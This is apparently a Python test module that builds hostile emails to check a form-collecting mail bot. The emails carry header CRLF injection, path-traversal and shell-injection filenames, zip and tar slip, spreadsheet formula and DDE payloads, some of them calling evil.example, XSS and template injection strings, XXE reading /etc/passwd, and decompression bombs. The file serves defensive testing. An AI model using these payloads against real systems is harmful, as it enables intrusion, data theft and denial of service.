"""Mails that want out of the place where what people write belongs; each says what it tries.

Facts: reliability.md §0 (header injection), §1 (bombs, formulas, HTML, names, forged admins), T9.
"""

# ruff: noqa: E501 - a table of attacks, one a line

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime

from tests.draw import papers
from tests.story.deployment import now, today

VICTIM = "victim@evil.example"
CANARY = "canary7f3a"
SCRIPT = f"<script>{CANARY}</script>"
IMAGE = f'"><img src=x onerror={CANARY}()>'
JINJA = "{{ 7777*7777 }}{% for x in [].__class__.__mro__ %}"  # 60481729 would stand in a letter
RLO = "\u202excod.exe"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@dataclass(frozen=True)
class Hostile:
    """One attack: `sender` is who may be answered, if anybody."""

    sort: str
    name: str
    sender: str
    raw: bytes


class Forge:
    """Makes the mails; each comes from the next unit of the roster."""

    def __init__(self, campaign, mailbox, coordinator):
        self.units, self.mailbox, self.coordinator = campaign.roster.units, mailbox, coordinator
        self.made = []

    def everything(self):
        """Return all attacks."""
        for make in (
            self.headers,
            self.names,
            self.formulas,
            self.pages,
            self.bombs,
            self.spoofs,
            self.charsets,
        ):
            make()
        return self.made

    def headers(self):
        add = self._with_header
        add("subject: quoted CRLF", b"Subject: =?utf-8?q?report=0D=0ABcc:_victim=40evil.example?=")
        add(
            "subject: base64 CRLF",
            b"Subject: =?utf-8?b?cmVwb3J0DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
        )
        add("subject: LF only", b"Subject: =?utf-8?q?report=0ABcc:_victim=40evil.example?=")
        add("subject: CR only", b"Subject: =?utf-8?q?report=0DBcc:_victim=40evil.example?=")
        add(
            "subject: line separators",
            "Subject: 报送\u2028Bcc: victim@evil.example\u0085X: 1".encode(),
        )
        add(
            "subject: NUL and escape",
            b"Subject: report\0\x1b[2J\x1b]0;owned\x07 =?utf-8?q?=00=1B=5B31m?=",
        )
        add(
            "subject: word in a word",
            b"Subject: =?utf-8?q?=3D=3Futf-8=3Fq=3Fx=3D0D=3D0ABcc=3A_victim=40evil.example=3F=3D?=",
        )
        add("subject: many replies", b"Subject: " + b"Re: " * 3000 + b"x")
        add("id: encoded word", b"Message-ID: =?utf-8?q?x=0D=0ABcc:_victim=40evil.example?=")
        add(
            "id: encoded word in brackets",
            b"Message-ID: <=?utf-8?q?x=0D=0ABcc:_victim=40evil.example?=@a.example>",
        )
        add(
            "references: encoded words",
            b"References: <a@b.example> =?utf-8?q?=0D=0ABcc:_victim=40evil.example?= <=?utf-8?q?=0ABcc:v?=@x>",
        )
        add(
            "in-reply-to: folded",
            b"In-Reply-To: <a@b.example>\r\n\t<c\r\n Bcc: victim@evil.example>",
        )
        add(
            "references: thousands",
            b"References: " + b"\r\n ".join(b"<%d@x.example>" % n for n in range(3000)),
        )
        add("reply-to: somebody else", f"Reply-To: {VICTIM}".encode())
        add(
            "return-receipt: somebody else",
            f"Disposition-Notification-To: {VICTIM}\r\nReturn-Receipt-To: {VICTIM}".encode(),
        )
        add(
            "received: with a command",
            b"Received: from a (\r\n =?utf-8?q?x=0D=0ABcc:_v?=) by b; =?utf-8?q?=0D=0A?=",
        )
        self._from("from: name with CRLF", b"=?utf-8?q?Li=0D=0ABcc:_victim=40evil.example?= <%b>")
        self._from("from: quotes and brackets", b'"Li <victim@evil.example>\\"" <%b>')
        self._from("from: a second address in a comment", b"%b (victim@evil.example)")

    def names(self):
        for label, name in (
            ("up", f"../../../../../../tmp/{CANARY}.docx"), ("absolute", f"/etc/cron.d/{CANARY}"),
            ("windows", f"C:\\Windows\\..\\{CANARY}.docx"), ("turned round", f"统计表{RLO}"),
            ("newlines", f"统计表\r\nContent-Type: text/html\r\n\r\n{SCRIPT}.docx"), ("NUL", f"统计表\0{CANARY}.docx"),
            ("long", "统" * 4000 + ".docx"), ("shell", f"$(touch {CANARY});`id`|;&.docx"), ("device", "CON.docx"),
            ("dots", ".."), ("page", f"{IMAGE}.docx"), ("template", f"{JINJA}.docx"),
        ):  # fmt: skip
            self._form(f"name: {label}", name=name, changes={"leaflets": "二三百"})
        evil = f"../../../../tmp/{CANARY}"
        self._files(
            "name: zip slip",
            ("a.zip", zipped((evil, b"x"), (f"/{evil}.docx", papers.statistics(self.unit.name)))),
        )
        self._files("name: zip link", ("a.zip", zip_link(f"/tmp/{CANARY}", "/etc/passwd")))
        self._files("name: tar slip and link", ("a.tar", tarred(evil)))
        self._files(
            "name: zip turned round", ("a.zip", zipped((f"统计表{RLO}", b"MZ" + b"\0" * 200)))
        )

    def formulas(self):
        for number, start in enumerate(
            (
                "=",
                "+",
                "-",
                "@",
                "\t=",
                '=HYPERLINK("http://evil.example","点")',
                "=cmd|' /C calc'!A0",
                '=IMPORTXML("http://evil.example")',
            )
        ):
            value = f"{start}{CANARY}"
            self._project(
                f"formula: {number}",
                {"name": value, "leader": value, "summary": value * 3, "venue": value},
            )
        row = papers.edited(
            papers.statistics(self.unit.name), papers.with_rows((f"=1+1{CANARY}", f"=2*{CANARY}", f"@SUM(1){CANARY}"))
        )  # fmt: skip
        self._files("formula: added row", ("统计表.docx", row))
        self._files("formula: file name", (f"=1+1{CANARY}.docx", papers.statistics(self.unit.name)))

    def pages(self):
        for label, value in (
            ("script", SCRIPT), ("image", IMAGE), ("template", JINJA), ("comment", f"--><svg onload={CANARY}()>"),
            ("link", f'<a href="javascript:{CANARY}()">点</a>'), ("style", f"</style></title><style>body{{background:url(//evil.example/{CANARY})}}"),
            ("entity", f"&lt;script&gt;{CANARY}&#60;iframe src=//evil.example&#62;"), ("form", f'<form action="//evil.example"><input name={CANARY}>'),
        ):  # fmt: skip
            self._project(
                f"page: {label} in fields",
                {"name": value, "leader": value, "phone": value, "period": value},
            )
            self._with_header(f"page: {label} in subject", b"Subject: " + word(value))

    def bombs(self):
        deep = b"".join(
            b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n)
            for n in range(3000)
        )
        self._raw("bomb: deep MIME", deep + b"\r\nx")
        self._raw(
            "bomb: mails in mails",
            b"Content-Type: message/rfc822\r\n\r\n" * 800 + b"Subject: x\r\n\r\nx",
        )
        self._raw("bomb: 400 KB subject", b"Subject: " + b"a " * 200_000 + b"\r\n\r\nx")
        self._raw("bomb: encoded words", b"Subject: " + b"=?gbk?B?sA==?= " * 15_000 + b"\r\n\r\nx")
        self._raw(
            "bomb: 400 KB recipients",
            b"To: " + b'"\\' * 60_000 + b", a@b.example" * 20_000 + b"\r\n\r\nx",
        )
        self._raw(
            "bomb: 100,000 headers", b"".join(b"X-%d: y\r\n" % n for n in range(100_000)) + b"\r\nx"
        )
        self._raw(
            "bomb: 20,000 parts",
            b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 20_000,
        )
        self._files(
            "bomb: zip of zeros",
            ("统计表.docx", zipped(("word/document.xml", b"\0" * (200 << 20)))),
        )
        self._files("bomb: zips in zips", ("a.zip", nested_zip(12)))
        self._files(
            "bomb: many members", ("a.zip", zipped(*((f"{n}", b"") for n in range(30_000))))
        )
        self._files("bomb: gzip", ("a.gz", gzip.compress(b"\0" * (200 << 20), 9)))
        self._files("bomb: entities", ("统计表.docx", office(laughs())))
        self._files(
            "bomb: outside entity",
            (
                "统计表.docx",
                office(
                    f'{XML}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{MAIN}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
                ),
            ),
        )
        self._files("bomb: picture", ("照片.png", png_header(60_000, 60_000)))
        self._files(
            "bomb: PDF",
            (
                "统计表.pdf",
                b"%PDF-1.7\n"
                + b"1 0 obj<</Kids[1 0 R]/Type/Pages/Count 99999999>>endobj\n" * 2_000
                + b"trailer<</Root 1 0 R>>",
            ),
        )

    def spoofs(self):
        for label, subject in (
            ("exempt", "免报 chifeng"), ("assign", "认领 1 chifeng"), ("pause", "暂停"), ("withdraw", "撤回 1"),
            ("confirm", "确认 [cmd:0123456789abcdef0123456789abcdef]"),
        ):  # fmt: skip
            self._mail(f"admin: {label}", self.coordinator, subject)
        forged = b"Authentication-Results: mx.example.cn; dkim=pass; spf=pass; dmarc=pass\r\n"
        self._mail("admin: forged results", self.coordinator, "免报 全部", extra=forged)
        roster = ("roster.xlsx", papers.campaign().folder.joinpath("roster.xlsx").read_bytes())
        self._mail("admin: a roster", self.coordinator, "名单", files=(roster,))
        self._mail(
            "admin: the bot itself",
            self.mailbox,
            "暂停",
            extra=b"X-Shoubiao-Loop: 000000000000000000000000\r\n",
        )
        self._mail(
            "admin: a name that is an address", f'"{self.coordinator}" <{VICTIM}>', "免报 chifeng"
        )
        self._mail("admin: two senders", f"{self.coordinator}, {VICTIM}", "免报 chifeng")
        self._mail("admin: another unit's thread", VICTIM, "Re: 统计表 [#AAAA]")
        report = f"Content-Type: multipart/report; report-type=delivery-status; boundary=r\r\nFrom: mailer-daemon@evil.example\r\nTo: {self.mailbox}\r\nSubject: failure\r\n\r\n--r\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nFinal-Recipient: rfc822; {self.coordinator}\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n--r\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <receipt.00000000000000000000000000000000@126.example.cn>\r\n\r\n--r--\r\n"
        self._raw("admin: a bounce of nothing we sent", report.encode())

    def charsets(self):
        self._with_header("charset: raw GBK", "Subject: 报送统计表".encode("gbk"))
        self._with_header(
            "charset: bytes of no charset",
            b"Subject: \xff\xfe\x80\x81\xa0 =?gbk?q?=FF=80?= =?x-none?b?////?=",
        )
        self._with_header(
            "charset: surrogates", b"Subject: =?utf-8?q?=ED=A0=80=ED=BF=BF?= =?utf-7?q?+2AA-?="
        )
        self._from("charset: raw GBK name", "李建华".encode("gbk") + b" <%b>")

    # how one is made

    @property
    def unit(self):
        return self.units[len(self.made) % len(self.units)]

    def _form(self, sort, name="统计表.docx", changes=None):
        self._files(sort, (name, papers.statistics(self.unit.name, changes)))

    def _project(self, sort, changes):
        day = today()
        period = {"period": f"{day.year}年{day.month}月{day.day}日"}
        form = papers.project({"organiser": self.unit.name} | period | changes)
        self._files(sort, ("备案表.docx", form))

    def _files(self, sort, *files):
        unit = self.unit
        head = f"From: {unit.addresses[0]}\r\nSubject: {len(self.made)}\r\n".encode()
        self._put(sort, unit.addresses[0], head, files)

    def _with_header(self, sort, line):
        """Send a form that has to be corrected, so that everything of it comes back in a letter."""
        unit = self.unit
        head = f"From: {unit.addresses[0]}\r\n".encode() + line + b"\r\n"
        if not line.lower().startswith(b"subject:"):
            head += f"Subject: {len(self.made)}\r\n".encode()
        form = papers.statistics(unit.name, {"leaflets": "二三百", "films": str(len(self.made))})
        self._put(sort, unit.addresses[0], head, (("统计表.docx", form),))

    def _from(self, sort, pattern):
        unit = self.unit
        head = b"From: " + pattern % unit.addresses[0].encode() + b"\r\nSubject: x\r\n"
        form = papers.statistics(unit.name, {"leaflets": "二三百", "films": str(len(self.made))})
        self._put(sort, unit.addresses[0], head, (("统计表.docx", form),))

    def _mail(self, sort, sender, subject, files=(), extra=b""):
        head = (
            b"From: " + sender.encode() + b"\r\n" + extra + b"Subject: " + word(subject) + b"\r\n"
        )
        self._put(sort, sender, head, files)

    def _raw(self, sort, raw):
        unit = self.unit
        own = b"" if b"From:" in raw else f"From: {unit.addresses[0]}\r\n".encode()
        self.made.append(Hostile(sort, str(len(self.made)), unit.addresses[0], own + raw))

    def _put(self, sort, sender, head, files):
        number = len(self.made)
        if b"message-id:" not in head.lower():
            head += f"Message-ID: <hostile.{number}@kepu.example.cn>\r\n".encode()
        head += f"Date: {format_datetime(now())}\r\nTo: {self.mailbox}\r\n".encode()
        self.made.append(Hostile(sort, str(number), sender, head + parts(files)))


def parts(files):
    """Return the rest of a mail: its text and files, with names as hostile clients write them."""
    message = EmailMessage(policy=SMTP)
    message.set_content(f"请查收。{SCRIPT}\n", cte="base64")
    for _, data in files:
        message.add_attachment(data, "application", "octet-stream", filename="NAME")
    raw = message.as_bytes()
    for name, _ in files:
        raw = raw.replace(b'filename="NAME"', b"filename=" + b'"' + word(name) + b'"', 1)
    return raw


def word(text):
    """Return one encoded word, whatever is in it."""
    import base64

    data = text.encode("utf-8", "surrogatepass")
    pieces = [data[at : at + 2000] for at in range(0, len(data), 2000)] or [b""]
    return b"\r\n ".join(b"=?utf-8?b?" + base64.b64encode(piece) + b"?=" for piece in pieces)


def zipped(*members):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return file.getvalue()


def zip_link(name, target):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, target)
    return file.getvalue()


def nested_zip(levels):
    data = b"\0" * (1 << 20)
    for level in range(levels):
        data = zipped(*((f"{level}.{copy}.zip", data) for copy in range(8)))
    return data


def tarred(name):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for label, kind in (
            (name, tarfile.REGTYPE),
            (f"/{name}", tarfile.SYMTYPE),
            ("d", tarfile.CHRTYPE),
        ):
            info = tarfile.TarInfo(label)
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
    return file.getvalue()


def office(document):
    """Return a .docx with this main part."""
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    target = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    return zipped(
        ("[Content_Types].xml", f'{XML}<Types xmlns="{types}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'),
        ("_rels/.rels", f'{XML}<Relationships xmlns="{relations}"><Relationship Id="r1" Type="{target}" Target="word/document.xml"/></Relationships>'),
        ("word/document.xml", document),
    )  # fmt: skip


def laughs():
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'{XML}<!DOCTYPE d [<!ENTITY l0 "ha">{entities}]><w:document xmlns:w="{MAIN}"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>'


def png_header(width, height):
    chunk = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))
    )
